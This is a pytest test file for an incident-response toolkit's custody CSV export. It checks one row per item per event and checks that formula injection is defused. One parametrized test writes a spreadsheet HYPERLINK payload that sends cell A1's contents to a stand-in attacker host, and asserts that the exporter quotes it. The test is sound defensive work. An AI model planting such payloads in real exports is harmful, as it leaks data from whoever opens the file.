"""Custody CSV (irkit/export/csvexport.py): one row per item per event, formula-safe cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from irkit.evidence import collect, custody
from irkit.export import csvexport
from irkit.formats import ed25519
from irkit.record.case import Case
from tests.conftest import FixedClock


def _read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_one_row_per_item_per_event(
    case: Case, tmp_path: Path, alice: ed25519.Signer, bob: ed25519.Signer, clock: FixedClock
) -> None:
    files = []
    for name in ("a.log", "b.log"):
        (tmp_path / name).write_text(name)
        files.append(tmp_path / name)
    collect.collect(case, alice, files, location="server room", clock=clock)
    custody.release(case, alice, ["E-0001", "E-0002"], to="Bob", purpose="lab",
                    method="courier", location="desk", clock=clock)  # fmt: skip
    custody.accept(case, bob, "T-0001", clock=clock)
    custody.finish(case, bob, "custody.returned", ["E-0002"], reason="owner", clock=clock)
    data = csvexport.dumps(case.read_entries().entries)
    assert data.startswith(b"seq,time_utc,kind,item,from,to,transfer,") and b"\r\n" in data
    rows = _read(data)
    assert [(r["seq"], r["kind"], r["item"]) for r in rows] == [
        ("2", "evidence.collected", "E-0001"),
        ("2", "evidence.collected", "E-0002"),
        ("3", "custody.released", "E-0001"),
        ("3", "custody.released", "E-0002"),
        ("4", "custody.accepted", "E-0001"),
        ("4", "custody.accepted", "E-0002"),
        ("5", "custody.returned", "E-0002"),
    ]
    released, accepted, returned = rows[2], rows[4], rows[6]
    assert released["from"] == f"Alice ({alice.fingerprint})"
    assert released["to"] == f"Bob ({bob.fingerprint})"
    assert (released["transfer"], released["method"], released["location"]) == (
        "T-0001",
        "courier",
        "desk",
    )
    assert released["reason"] == "lab" and released["time_utc"].endswith("Z")
    assert accepted["check"] == "ok" and accepted["from"].startswith("Alice")
    assert (accepted["actor_name"], accepted["actor_fingerprint"]) == ("Bob", bob.fingerprint)
    assert returned["from"].startswith("Bob") and returned["reason"] == "owner"
    assert rows[0]["location"] == "server room" and rows[0]["to"].startswith("Alice")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_are_made_inert(
    case: Case, tmp_path: Path, alice: ed25519.Signer, clock: FixedClock, start: str
) -> None:
    (tmp_path / "x").write_text("x")
    evil = f'{start}HYPERLINK("http://attacker.example/?"&A1,"click")'
    collect.collect(case, alice, [tmp_path / "x"], location=evil, clock=clock)
    custody.store(case, alice, ["E-0001"], location=evil.replace("\r", "\t"), clock=clock)
    rows = _read(csvexport.dumps(case.read_entries().entries))
    assert rows[0]["location"] == "'" + evil
    assert rows[1]["location"].startswith("'")
    assert csvexport.inert("ordinary, text") == "ordinary, text"
